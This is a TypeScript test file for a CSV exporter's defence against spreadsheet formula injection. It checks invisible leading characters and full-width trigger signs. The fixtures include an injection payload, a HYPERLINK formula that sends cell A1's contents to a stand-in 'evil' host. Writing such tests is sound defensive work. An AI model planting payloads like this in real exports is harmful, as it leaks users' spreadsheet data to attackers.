import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../../shared/exchange/csv-export.ts';
import {
  escapeFormulaCell,
  unescapeFormulaCell,
} from '../../../../shared/exchange/formula-escape.ts';
import { parseCsv } from '../../../../shared/import/csv.ts';

// Spreadsheets skip leading whitespace and invisible characters before they look for a formula
// trigger, and some read full-width ＝＋－＠ as their ASCII twins (Excel and WPS with an East
// Asian input locale). Every such cell must leave the export as text.

/** Characters a spreadsheet may skip before deciding a cell is a formula. */
const LEADERS = [
  '\n',
  '\r',
  '\t',
  ' ',
  '\u00a0', // no-break space
  '\u3000', // ideographic space
  '\u200b', // zero-width space
  '\ufeff', // byte order mark / zero-width no-break space
  '\u2002', // en space
  '\u2009', // thin space
  '\u202f', // narrow no-break space
  '\u2060', // word joiner
  '\u200c', // zero-width non-joiner
  '\u200d', // zero-width joiner
  '\u200e', // left-to-right mark
  '\u00ad', // soft hyphen
  '\u180e', // Mongolian vowel separator
  '\u2028', // line separator
  '\u000b', // vertical tab
  '\u000c', // form feed
];

const TRIGGERS = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\ufe66', '\ufe62'];

/** A cell a spreadsheet could run: after skipping leaders, it starts with a trigger. */
const looksLikeFormula = (cell: string) =>
  new RegExp(
    `^[${LEADERS.join('').replace('-', '\\-')}]*[${TRIGGERS.join('').replace('-', '\\-')}]`,
    'u',
  ).test(cell);

describe('formula escaping at the edges', () => {
  it.each([
    ['a line feed before =', '\n=HYPERLINK("http://evil/?"&A1)'],
    ['a carriage return and line feed', '\r\n=1+1'],
    ['a no-break space', '\u00a0=1+1'],
    ['an ideographic space', '\u3000=1+1'],
    ['a zero-width space', '\u200b=1+1'],
    ['a byte order mark', '\ufeff=1+1'],
    ['a full-width equals sign', '\uff1dHYPERLINK("http://evil/")'],
    ['a full-width plus sign', '\uff0b1'],
    ['a full-width minus sign', '\uff0d1'],
    ['a full-width at sign', '\uff20SUM(A1)'],
    ['a full-width equals after an ideographic space', '\u3000\uff1d1'],
    ['spaces mixed with zero-width characters', ' \u200b \u2060=1'],
    ['a small equals sign', '\ufe66cmd'],
  ])('treats a cell that starts with %s', (_what, cell) => {
    const escaped = escapeFormulaCell(cell);
    expect(escaped).toBe(`'${cell}`);
    expect(unescapeFormulaCell(escaped)).toBe(cell);
    // And through a whole CSV file: the cell read back still starts with the apostrophe.
    const back = parseCsv(`h\r\n${toCsv([[cell]])}`, { delimiter: ',' }).rows[0]!.cells[0]!;
    expect(back.startsWith("'")).toBe(true);
  });

  it('leaves ordinary text alone, including text that merely contains a trigger', () => {
    for (const cell of ['core switch', 'a=b', '机房 3', '  leading spaces', 'x-1', '１２３']) {
      expect(escapeFormulaCell(cell)).toBe(cell);
    }
  });

  it('no escaped cell starts like a formula, and unescaping gives every string back', () => {
    const leader = fc.constantFrom(...LEADERS);
    const trigger = fc.constantFrom(...TRIGGERS);
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.string({ unit: 'grapheme' }),
          fc
            .tuple(fc.array(leader, { maxLength: 4 }), trigger, fc.string())
            .map(([lead, t, rest]) => lead.join('') + t + rest),
          fc
            .tuple(fc.array(leader, { maxLength: 3 }), fc.constantFrom("'", "''"), fc.string())
            .map(([lead, q, rest]) => lead.join('') + q + rest),
        ),
        (cell) => {
          const escaped = escapeFormulaCell(cell);
          expect(unescapeFormulaCell(escaped)).toBe(cell);
          expect(looksLikeFormula(escaped)).toBe(false);
        },
      ),
      { numRuns: 2000 },
    );
  });
});
